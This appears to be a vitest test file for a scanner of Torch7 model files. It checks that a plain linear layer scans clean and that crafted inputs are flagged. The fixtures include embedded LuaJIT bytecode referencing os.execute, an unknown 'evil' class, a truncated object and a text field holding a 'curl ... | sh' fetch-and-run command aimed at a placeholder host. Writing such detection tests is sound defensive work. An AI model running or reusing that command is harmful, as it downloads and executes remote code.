import { describe, expect, test } from 'vitest';
import { concat } from '#formats/test-files/bytes';
import { torchFunction, torchObject, torchTable, torchTensor, torchText } from '#formats/test-files/runtimes';
import { scanBytes } from '../test-scan.ts';

const layer = torchObject(
  1,
  'nn.Linear',
  torchTable(2, torchText('weight'), torchTensor(3), torchText('train'), concat(5, new Uint8Array(3), 1, new Uint8Array(3))),
);

test('a layer with its tensors is clean', () => {
  expect(scanBytes(layer)).toMatchObject({
    format: { kind: 'torch7' },
    verdict: 'clean',
    outcome: 'scanned',
    card: { framework: 'Torch7', tensors: 1 },
  });
});

describe('what Lua would restore is told', () => {
  test.each([
    ['a function', torchTable(1, torchText('f'), torchFunction(2, '\x1bLJ os.execute')), 'MDL-FB-008', 'high'],
    [
      'a function in an object',
      torchObject(1, 'nn.Module', torchTable(2, torchText('forward'), torchFunction(3, '\x1bLJ'))),
      'MDL-FB-008',
      'high',
    ],
    ['a class of nobody', torchObject(1, 'evil.Thing', torchTable(2)), 'MDL-FB-009', 'medium'],
    ['a command as text', torchTable(1, torchText('init'), torchText('curl http://x.example/a | sh')), 'MDL-FB-003', 'high'],
    ['an object that breaks off', layer.slice(0, -6), 'MDL-FB-002', 'medium'],
  ])('%s', (_name, bytes, rule, level) => {
    expect(scanBytes(bytes).severities.get(rule)).toBe(level);
  });
});
